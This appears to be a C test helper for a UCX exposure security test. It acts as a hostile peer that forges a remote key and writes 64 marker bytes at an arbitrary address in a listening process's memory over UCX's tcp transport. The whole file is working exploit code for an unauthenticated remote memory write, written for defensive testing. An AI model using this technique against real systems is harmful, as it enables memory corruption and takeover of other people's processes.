/* A hostile UCX peer for tests/security/test_ucx_exposure.py: connect to a UCX listener
 * at HOST:PORT, forge a remote key (packed from a registration of our own: UCX's tcp
 * transport carries nothing in it that the target checks), put 64 bytes of
 * 0xdeadbeefcafef00d at ADDR of the target process and flush.
 * Exit 0: the put was flushed (the target took it); 2: UCX refused or failed it.
 * Build: gcc -O1 -o ucx_forged_put ucx_forged_put.c -I$UCX/include -L$UCX/lib -lucp -lucs */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <ucp/api/ucp.h>

static ucp_worker_h wk;

static void fail(const char *what, ucs_status_t s) {
    fprintf(stderr, "%s: %s\n", what, ucs_status_string(s));
    exit(2);
}

static void on_error(void *arg, ucp_ep_h ep, ucs_status_t s) {
    (void)arg;
    (void)ep;
    fail("endpoint error", s);
}

static void wait_req(void *r, const char *what) {
    if (r == NULL) return;
    if (UCS_PTR_IS_ERR(r)) fail(what, UCS_PTR_STATUS(r));
    time_t t0 = time(NULL);
    while (ucp_request_check_status(r) == UCS_INPROGRESS) {
        ucp_worker_progress(wk);
        /* refused: never flushed (an accepted put flushes within ms, even over the veth) */
        if (time(NULL) - t0 > 2) fail(what, UCS_ERR_TIMED_OUT);
    }
    ucs_status_t s = ucp_request_check_status(r);
    ucp_request_free(r);
    if (s != UCS_OK) fail(what, s);
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: ucx_forged_put HOST PORT ADDR\n");
        return 1;
    }
    ucp_params_t p = {.field_mask = UCP_PARAM_FIELD_FEATURES,
                      .features = UCP_FEATURE_TAG | UCP_FEATURE_RMA};
    ucp_config_t *cfg;
    ucp_context_h ctx;
    ucs_status_t s;
    if ((s = ucp_config_read(NULL, NULL, &cfg)) != UCS_OK) fail("config", s);
    if ((s = ucp_init(&p, cfg, &ctx)) != UCS_OK) fail("init", s);
    ucp_config_release(cfg);
    ucp_worker_params_t wp = {.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE,
                              .thread_mode = UCS_THREAD_MODE_SINGLE};
    if ((s = ucp_worker_create(ctx, &wp, &wk)) != UCS_OK) fail("worker", s);
    static uint64_t mark[8];
    for (int i = 0; i < 8; i++) mark[i] = 0xdeadbeefcafef00dull;
    ucp_mem_map_params_t mp = {
        .field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH,
        .address = mark,
        .length = sizeof mark};
    ucp_mem_h mh;
    if ((s = ucp_mem_map(ctx, &mp, &mh)) != UCS_OK) fail("mem_map", s);
    void *packed;
    size_t packed_len;
    if ((s = ucp_rkey_pack(ctx, mh, &packed, &packed_len)) != UCS_OK) fail("rkey_pack", s);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
    if (inet_pton(AF_INET, argv[1], &a.sin_addr) != 1) {
        fprintf(stderr, "HOST: not an IPv4 address\n");
        return 1;
    }
    ucp_ep_params_t e = {.field_mask = UCP_EP_PARAM_FIELD_FLAGS | UCP_EP_PARAM_FIELD_SOCK_ADDR |
                                       UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                                       UCP_EP_PARAM_FIELD_ERR_HANDLER,
                         .flags = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER,
                         .sockaddr = {.addr = (struct sockaddr *)&a, .addrlen = sizeof a},
                         .err_mode = UCP_ERR_HANDLING_MODE_PEER,
                         .err_handler = {.cb = on_error, .arg = NULL}};
    ucp_ep_h ep;
    if ((s = ucp_ep_create(wk, &e, &ep)) != UCS_OK) fail("ep_create", s);
    ucp_rkey_h rkey;
    if ((s = ucp_ep_rkey_unpack(ep, packed, &rkey)) != UCS_OK) fail("rkey_unpack", s);
    ucp_request_param_t p0 = {.op_attr_mask = 0};
    uint64_t addr = strtoull(argv[3], NULL, 0);
    wait_req(ucp_put_nbx(ep, mark, sizeof mark, addr, rkey, &p0), "put");
    wait_req(ucp_ep_flush_nbx(ep, &p0), "flush");
    fprintf(stderr, "put of 64 bytes at %#llx flushed\n", (unsigned long long)addr);
    return 0;
}
